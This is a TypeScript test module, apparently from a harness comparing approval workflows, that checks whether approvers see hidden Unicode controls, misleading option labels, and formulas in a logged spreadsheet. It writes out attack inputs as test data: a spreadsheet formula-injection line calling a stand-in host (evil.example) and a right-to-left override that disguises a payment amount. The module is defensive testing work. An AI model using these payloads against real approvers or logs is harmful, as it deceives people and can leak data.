import { ask, newKey, type Way } from '../contestants';
import type { Lab } from '../lab';
import { fails, holds, notApplicable, type Finding, type Row } from '../verdict';

/** An override that lets 9,000,000 read as 000,000,9, a zero-width space, a soft hyphen and a byte order mark. */
const HIDDEN = ['\u202E', '\u202C', '\u200B', '\u00AD', '\uFEFF', '\u2066'];

async function hidden(lab: Lab, way: Way): Promise<Finding> {
	const key = newKey();
	const question = await ask(lab, way, {
		key,
		question: `Pay ${key}: ${HIDDEN.join('9,000')} JPY?`,
		approveLabel: `P${HIDDEN.join('')}ay`,
	});
	await question.answer('refuse');
	const left = HIDDEN.filter((character) => question.shown.includes(character));
	return left.length === 0
		? holds('is taken out')
		: fails(
				`reaches the approver: ${left.map((character) => `U+${character.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}`).join(', ')}`,
			);
}

async function lyingLabel(lab: Lab, way: Way): Promise<Finding> {
	const question = await ask(lab, way, { approveLabel: 'Decline everything', rejectLabel: 'Approve' });
	await question.answer('refuse');
	const marked = question.shown.includes('✅ 1. Decline everything') && question.shown.includes('🚫 2. Approve');
	return marked ? holds('each option is marked ✅ or 🚫 by what it does') : fails('only the label is shown');
}

async function formula(lab: Lab, way: Way): Promise<Finding> {
	if (way.startsWith('n8n')) return notApplicable('no log');
	if (way === 'ours-email') return notApplicable('the same record as over Telegram');
	const ledger = await lab.setUpSpreadsheet();
	// The charts of the summary stand on formulas of ours, which no text from outside reaches.
	const ours = new Set(lab.ours.control.sheets.formulas().map((each) => JSON.stringify(each)));
	const key = newKey();
	const text = `=HYPERLINK("https://evil.example?${key}","click")`;
	const question = await ask(lab, 'ours-sheets', { key, question: text, approveLabel: '+1+1', rejectLabel: '@SUM(1)' });
	await question.answer('refuse');
	const [decision] = (await ledger.read('decision_log')).filter((each) => each.question.includes(key));
	const labels = decision?.options.map(({ label }) => label);
	const kept = decision?.question === text && JSON.stringify(labels) === JSON.stringify(['+1+1', '@SUM(1)']);
	const formulas = lab.ours.control.sheets.formulas().filter((each) => !ours.has(JSON.stringify(each)));
	return kept && formulas.length === 0
		? holds('every cell is text')
		: fails(`formulas in ${formulas.map(({ cell }) => cell).join(', ')}`);
}

/** Rows about what an approver sees, and what the log keeps. */
export const shownRows: readonly Row[] = [
	{
		id: 'formula',
		title: 'Formulas in every logged cell',
		holdsWhen: 'no cell of the log holds a formula',
		run: formula,
	},
	{
		id: 'hidden-text',
		title: 'Right-to-left and zero-width text',
		holdsWhen: 'no character that hides or turns text reaches the approver',
		run: hidden,
	},
	{
		id: 'lying-label',
		title: 'An option label that lies about its effect',
		holdsWhen: 'the message says beside the label what the option does',
		run: lyingLabel,
	},
];
